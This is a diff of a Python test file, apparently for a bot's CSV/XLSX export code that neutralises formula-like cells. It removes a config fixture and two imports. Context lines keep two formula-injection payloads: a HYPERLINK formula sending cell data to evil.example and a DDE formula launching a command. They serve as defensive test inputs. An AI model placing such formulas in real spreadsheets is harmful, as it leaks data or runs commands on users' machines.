@@ -22,11 +22,9 @@ from openpyxl import load_workbook
 
 from bot.app import App
 from bot.cli import main
-from bot.config import Config
 from bot.formats.export import csv_bytes, is_formula_like, neutralise, restore, xlsx_bytes
 from bot.tabular import clean_cell, read_table_bytes
 from storage import delegates
-from tests.conftest import ORGANISER_ID
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
 DDE = "=cmd|' /C calc'!A0"
@@ -44,14 +42,6 @@ def roster_csv() -> bytes:
     csv.writer(out, delimiter=";", lineterminator="\r\n").writerows(rows)
     return out.getvalue().encode()
 
-
-@pytest.fixture
-def cli_config(tmp_path: Path, config: Config) -> Path:
-    """Write a TOML config for the command line on the test App's database."""
-    path = tmp_path / "cli.toml"
-    path.write_text(f"[storage]\npath = '{config.database_path}'\n\n[organisers]\n"
-                    f"telegram = [{ORGANISER_ID}]\n", encoding="utf-8")
-    return path
 
 
 async def cli(config_path: Path, *args: str) -> int:
